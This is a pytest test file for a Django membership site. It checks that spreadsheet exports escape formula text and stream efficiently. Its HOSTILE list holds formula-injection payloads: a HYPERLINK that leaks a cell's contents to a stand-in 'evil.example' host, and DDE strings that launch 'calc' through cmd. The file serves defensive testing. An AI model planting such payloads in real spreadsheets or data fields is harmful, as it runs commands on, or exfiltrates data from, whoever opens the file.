"""Every spreadsheet the secretariat downloads opens without running what a
member typed, and big ones are streamed with a fixed number of queries."""

import ast
import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.contrib import admin
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from import_export.admin import ExportMixin

from core.exports import SpreadsheetExportMixin, SpreadsheetResourceMixin, safe_cell
from core.models import Province
from members.models import Organization
from tests.factories import (
    ActionItemFactory,
    ActivityFactory,
    CaseStudyFactory,
    OrganizationFactory,
    ParticipationFigureFactory,
    RecommendationFactory,
)

pytestmark = pytest.mark.django_db

# What a hostile representative (or anyone who can type into a field) puts in.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for the report")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '\uff1dHYPERLINK("http://evil.example")',  # full-width equals sign
]
REPORT_URL = "/events/reports/donor/"
YEAR = {"start": "2024-01-01", "end": "2024-12-31"}


def body(response):
    """The bytes of a download, streamed or not (read once, then kept)."""
    assert response.status_code == 200, response
    if not hasattr(response, "body"):
        response.body = (
            b"".join(response.streaming_content)
            if response.streaming
            else response.content
        )
    return response.body


def csv_cells(response):
    text = body(response).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response):
    workbook = openpyxl.load_workbook(io.BytesIO(body(response)))
    return [cell for sheet in workbook.worksheets for row in sheet.rows for cell in row]


def assert_escaped_in_csv(response, texts):
    cells = csv_cells(response)
    for text in texts:
        assert text not in cells
        assert f"'{text}" in cells


def assert_escaped_in_xlsx(response, texts):
    cells = xlsx_cells(response)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = [cell.value for cell in cells]
    for text in texts:
        # openpyxl turns a line break into _x000D_ and back; compare the rest.
        assert f"'{text}" in values or f"'{text}".replace("\r", "") in [
            str(v).replace("\r", "") for v in values
        ]
        assert text not in values
    return cells


def admin_export(client, model_name, export_format, resource_prefix, fields):
    app_label = {"organization": "members", "activity": "events"}.get(
        model_name, "casestudies"
    )
    data = {"format": export_format, "resource": "0"}
    data.update({f"{resource_prefix}_{field}": "on" for field in fields})
    return client.post(reverse(f"admin:{app_label}_{model_name}_export"), data)


def hostile_organization():
    return OrganizationFactory(
        name_en=HOSTILE[0],
        acronym=HOSTILE[1],
        phone=HOSTILE[2],
        address=HOSTILE[3],
        description_en=HOSTILE[4],
        website="https://example.org/",
        registration_number=HOSTILE[7],
    )


ORGANIZATION_FIELDS = [
    "name_en",
    "acronym",
    "phone",
    "address",
    "description_en",
    "registration_number",
    "founded_year",
]
ORGANIZATION_TEXTS = [HOSTILE[i] for i in (0, 1, 2, 3, 4, 7)]


def test_organisation_export_writes_members_formulas_as_text(secretariat_client):
    hostile_organization()
    as_csv = admin_export(
        secretariat_client,
        "organization",
        "0",
        "organizationresource",
        ORGANIZATION_FIELDS,
    )
    assert_escaped_in_csv(as_csv, ORGANIZATION_TEXTS)
    as_xlsx = admin_export(
        secretariat_client,
        "organization",
        "1",
        "organizationresource",
        ORGANIZATION_FIELDS,
    )
    assert_escaped_in_xlsx(as_xlsx, ORGANIZATION_TEXTS)


def test_organisation_export_keeps_plain_text_and_numbers_as_they_are(
    secretariat_client,
):
    OrganizationFactory(name_en="Aphivat Strey", acronym="-5", founded_year=1998)
    as_csv = csv_cells(
        admin_export(
            secretariat_client,
            "organization",
            "0",
            "organizationresource",
            ["name_en", "acronym", "founded_year"],
        )
    )
    assert {"Aphivat Strey", "-5", "1998"} <= set(as_csv)
    cells = xlsx_cells(
        admin_export(
            secretariat_client,
            "organization",
            "1",
            "organizationresource",
            ["name_en", "founded_year"],
        )
    )
    year = next(cell for cell in cells if cell.value == 1998)
    assert year.data_type == "n"


def test_exported_organisations_import_back_unchanged(secretariat_client):
    hostile_organization()
    exported = body(
        admin_export(
            secretariat_client,
            "organization",
            "0",
            "organizationresource",
            ["slug", "name_en", "acronym", "kind", "membership_status"],
        )
    )
    url = reverse("admin:members_organization_import")
    upload = io.BytesIO(exported)
    upload.name = "members.csv"
    preview = secretariat_client.post(
        url, {"format": "0", "resource": "0", "import_file": upload}, follow=True
    )
    secretariat_client.post(
        reverse("admin:members_organization_process_import"),
        {"job": preview.context["job"].pk},
    )
    organization = Organization.objects.get()
    assert (organization.name_en, organization.acronym) == (HOSTILE[0], HOSTILE[1])


def test_activity_export_writes_formulas_as_text_and_counts_as_numbers(
    secretariat_client,
):
    activity = ActivityFactory(title_en=HOSTILE[0], venue_en=HOSTILE[5])
    ParticipationFigureFactory(activity=activity, female=7, male=3)
    fields = ["title_en", "venue_en", "female", "total"]
    as_csv = admin_export(
        secretariat_client, "activity", "0", "activityresource", fields
    )
    assert_escaped_in_csv(as_csv, [HOSTILE[0], HOSTILE[5]])
    as_xlsx = admin_export(
        secretariat_client, "activity", "1", "activityresource", fields
    )
    cells = assert_escaped_in_xlsx(as_xlsx, [HOSTILE[0]])
    numbers = {cell.value: cell.data_type for cell in cells}
    assert (numbers[7], numbers[10]) == ("n", "n")


@pytest.mark.parametrize(
    ("model_name", "prefix", "fields", "make"),
    [
        (
            "casestudy",
            "casestudyresource",
            ["title_en"],
            lambda: CaseStudyFactory(title_en=HOSTILE[0]),
        ),
        (
            "recommendation",
            "recommendationresource",
            ["text_en"],
            lambda: RecommendationFactory(text_en=HOSTILE[0]),
        ),
        (
            "actionitem",
            "actionitemresource",
            ["action_en"],
            lambda: ActionItemFactory(action_en=HOSTILE[0]),
        ),
    ],
)
def test_case_study_exports_write_formulas_as_text(
    secretariat_client, model_name, prefix, fields, make
):
    make()
    assert_escaped_in_csv(
        admin_export(secretariat_client, model_name, "0", prefix, fields), HOSTILE[:1]
    )
    assert_escaped_in_xlsx(
        admin_export(secretariat_client, model_name, "1", prefix, fields), HOSTILE[:1]
    )


def test_export_action_on_selected_rows_writes_formulas_as_text(secretariat_client):
    organization = hostile_organization()
    url = reverse("admin:members_organization_export")
    response = secretariat_client.post(
        url,
        {
            "format": "0",
            "resource": "0",
            "export_items": [organization.pk],
            "organizationresource_name_en": "on",
        },
    )
    assert_escaped_in_csv(response, HOSTILE[:1])


def hostile_activities():
    for text in HOSTILE:
        activity = ActivityFactory(
            title_en=text, starts_at=datetime(2024, 5, 1, 3, tzinfo=UTC)
        )
        ParticipationFigureFactory(activity=activity, female=2, male=1)


def test_donor_report_downloads_write_formulas_as_text(secretariat_client):
    hostile_activities()
    texts = [text for text in HOSTILE if "\r" not in text]
    assert_escaped_in_csv(
        secretariat_client.get(REPORT_URL, {**YEAR, "format": "csv"}), texts
    )
    as_xlsx = secretariat_client.get(REPORT_URL, {**YEAR, "format": "xlsx"})
    assert_escaped_in_xlsx(as_xlsx, texts)
    workbook = openpyxl.load_workbook(io.BytesIO(body(as_xlsx)))
    total = [
        cell.value for cell in workbook["Activities"][workbook["Activities"].max_row]
    ]
    assert total[-4:] == [2 * len(HOSTILE), len(HOSTILE), 0, 3 * len(HOSTILE)]


def test_dashboard_downloads_write_formulas_as_text(secretariat_client):
    # Place names are typed in the back-office; any typed text is escaped.
    Province.objects.filter(code="12").update(name_en=HOSTILE[0])
    OrganizationFactory(head_office_province=Province.objects.get(code="12"))
    assert_escaped_in_csv(
        secretariat_client.get("/dashboard/download.csv"), HOSTILE[:1]
    )
    assert_escaped_in_xlsx(
        secretariat_client.get("/dashboard/download.xlsx"), HOSTILE[:1]
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-5, -5),
        (Decimal("-1.50"), Decimal("-1.50")),
        (-2.5, -2.5),
        ("-5", "-5"),
        ("+3.5", "+3.5"),
        ("Kampot", "Kampot"),
        ("", ""),
        (None, None),
        ("-5 people", "'-5 people"),
        ("=1+1", "'=1+1"),
    ],
)
def test_numbers_stay_numbers_and_formulas_become_text(value, expected):
    assert safe_cell(value) == expected


# Big downloads: queries do not grow with the rows, and the file is streamed.


def count_download_queries(client, url, data, method="get"):
    with CaptureQueriesContext(connection) as queries:
        response = getattr(client, method)(url, data)
        body(response)
    return len(queries), response


def test_donor_report_downloads_stream_with_queries_independent_of_rows(
    secretariat_client,
):
    for _ in range(3):
        ParticipationFigureFactory(
            activity=ActivityFactory(starts_at=datetime(2024, 5, 1, tzinfo=UTC))
        )
    counts = {}
    for export_format in ("csv", "xlsx"):
        counts[export_format], response = count_download_queries(
            secretariat_client, REPORT_URL, {**YEAR, "format": export_format}
        )
        assert response.streaming
    for _ in range(30):
        ParticipationFigureFactory(
            activity=ActivityFactory(starts_at=datetime(2024, 6, 1, tzinfo=UTC))
        )
    for export_format in ("csv", "xlsx"):
        queries, _response = count_download_queries(
            secretariat_client, REPORT_URL, {**YEAR, "format": export_format}
        )
        assert queries == counts[export_format]


def test_admin_exports_stream_with_queries_independent_of_rows(secretariat_client):
    fields = {"format": "0", "resource": "0"}
    fields.update(
        {f"organizationresource_{name}": "on" for name in ("name_en", "provinces")}
    )
    url = reverse("admin:members_organization_export")
    OrganizationFactory.create_batch(3)
    few, response = count_download_queries(secretariat_client, url, fields, "post")
    assert response.streaming
    OrganizationFactory.create_batch(30)
    many, _response = count_download_queries(secretariat_client, url, fields, "post")
    assert many == few


def test_donor_report_page_lists_activities_a_page_at_a_time(
    secretariat_client, monkeypatch
):
    from events.views import DonorReportView

    monkeypatch.setattr(DonorReportView, "paginate_by", 2)
    for day in (1, 2, 3):
        ActivityFactory(
            title_en=f"Forum {day}", starts_at=datetime(2024, 5, day, 3, tzinfo=UTC)
        )
    first = secretariat_client.get(REPORT_URL, YEAR)
    assert "Forum 1" in first.text
    assert "Forum 2" in first.text
    assert "Forum 3" not in first.text
    assert "Activities 1 to 2 of 3" in first.text
    assert first.context["report"].totals.activities == 3
    second = secretariat_client.get(REPORT_URL, {**YEAR, "page": "2"})
    assert "Forum 3" in second.text
    assert "Forum 1" not in second.text


# Anything added later goes through core.exports.


def test_every_admin_export_is_escaped_and_streamed():
    for model_admin in admin.site._registry.values():
        if isinstance(model_admin, ExportMixin):
            assert isinstance(model_admin, SpreadsheetExportMixin), model_admin
            for resource in model_admin.get_export_resource_classes(None):
                assert issubclass(resource, SpreadsheetResourceMixin), resource


SPREADSHEET_WRITERS = {"writer", "writerow", "writerows", "Workbook", "DictWriter"}


def test_no_module_writes_a_spreadsheet_outside_core_exports():
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.glob("*/**/*.py"):
        relative = path.relative_to(root)
        if relative.parts[0] in {".venv", "tests", "bench"} or relative == Path(
            "core/exports.py"
        ):
            continue
        tree = ast.parse(path.read_text())
        for node in ast.walk(tree):
            name = getattr(node, "attr", None) or getattr(node, "id", None)
            if name in SPREADSHEET_WRITERS and isinstance(
                node, ast.Attribute | ast.Name
            ):
                offenders.append(f"{relative}:{node.lineno}")
    assert not offenders, offenders
